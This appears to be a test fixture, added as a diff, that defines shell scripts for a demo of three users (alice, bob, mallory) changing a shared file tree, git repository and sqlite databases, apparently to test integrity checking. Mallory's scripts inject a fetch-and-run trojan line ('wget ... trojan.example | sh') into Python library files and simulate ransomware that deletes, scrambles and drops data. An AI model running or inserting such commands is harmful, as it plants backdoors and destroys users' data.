@@ -1,0 +1,94 @@
+"""What alice, bob and mallory do in the demo: shell scripts, run in the shared tree."""
+
+ALICE_STARTS = """
+mkdir -p projects/parser
+tar -C library -cf - json email | tar -C projects/parser -xf -
+cd projects/parser
+ln json/decoder.py decoder.py
+git init -q
+git add .
+git commit -q -m "Start from the library"
+"""
+
+BOB_STARTS = """
+sqlite3 projects/stock.db "
+    create table stock (part integer primary key, count integer not null);
+    begin;
+    with recursive n(i) as (select 1 union all select i + 1 from n where i < 500) insert into stock select i, 10 from n;
+    commit;"
+chmod g+w projects/stock.db
+grep -rlZ --include='*.py' 'TODO' packages | xargs -0 -r sed -i 's/TODO/TO DO/'
+"""
+
+# What both change, alice first: a file, and a name that neither had.
+ALICE_MEETS = """
+sed -i '1i # Checked by alice.' library/textwrap.py
+echo "What alice plans" > projects/plan.txt
+"""
+
+BOB_MEETS = """
+sed -i '1i # Reviewed by bob.' library/textwrap.py
+echo "What bob plans" > projects/plan.txt
+"""
+
+ALICE_WORKS = """
+(
+    cd projects/parser
+    git checkout -q -b faster
+    sed -i 's/def decode/def decode_faster/' json/decoder.py
+    git commit -q -a -m "Decode faster"
+    git checkout -q main
+    git merge -q --no-ff -m "Merge what is faster" faster
+)
+sqlite3 projects/stock.db "
+    begin; update stock set count = count - 3 where part <= 100; insert into stock values (501, 7); commit;
+    begin; delete from stock; rollback;"
+rm -r library/html
+mv library/email library/mail
+ln library/calendar.py library/almanac.py
+chmod 640 library/sched.py
+mkdir sandbox
+tar -C packages -cf - click | tar -C sandbox -xf -
+sed 's/heap/pile/g' library/heapq.py > library/.heapq.py.new
+mv library/.heapq.py.new library/heapq.py
+find library/json -name '*.py' -exec sed -i 's/^import re$/import re  # seen/' {} +
+"""
+
+BOB_WORKS = """
+sqlite3 projects/orders.db "
+    create table orders (number integer primary key, part integer);
+    begin; insert into orders values (1, 17), (2, 4), (3, 250); commit;"
+mkdir reports
+find library packages -type f | LC_ALL=C sort > reports/files
+grep -rc --include='*.py' import library | LC_ALL=C sort > reports/imports
+tar --sort=name -cf reports/library.tar library/json library/email library/html
+sed 's/Queue/Line/g' library/queue.py > library/.queue.py.new
+mv library/.queue.py.new library/queue.py
+sed -i 's/^import /import  /' packages/trio/_util.py
+rm packages/trio/_version.py
+mv packages/idna packages/idna-before
+echo "# New, by bob." > library/email/by_bob.py
+"""
+
+MALLORY_TROJANS = """
+sed -i '1i import os; os.system("wget -q -O - trojan.example | sh")' library/subprocess.py library/socket.py
+"""
+
+MALLORY_DESTROYS = """
+rm -rf packages projects/parser/.git
+find library -type f -name '*.py' -exec sh -c '
+    for file; do tr "\\000-\\377" "\\200-\\377\\000-\\177" < "$file" > "$file.locked"; done; rm "$@"' sh {} +
+sqlite3 projects/stock.db "drop table stock"
+echo "Pay, or lose it all." > RANSOM
+"""
+
+#: What bob does again and again while mallory is at it.
+LOOK = "cat library/subprocess.py library/socket.py | sha256sum; ls -l . library packages/* | sha256sum"
+
+#: Prints nothing if the repository is sound and clean.
+GIT_CHECK = "cd projects/parser; git fsck --no-progress --no-dangling 2>&1; git --no-optional-locks status --porcelain"
+
+COMMITS = "cd projects/parser; git rev-list --count HEAD"
+
+#: Prints ok, and the number of rows and of parts.
+STOCK = "sqlite3 -readonly projects/stock.db 'pragma integrity_check; select count(*), sum(count) from stock'"
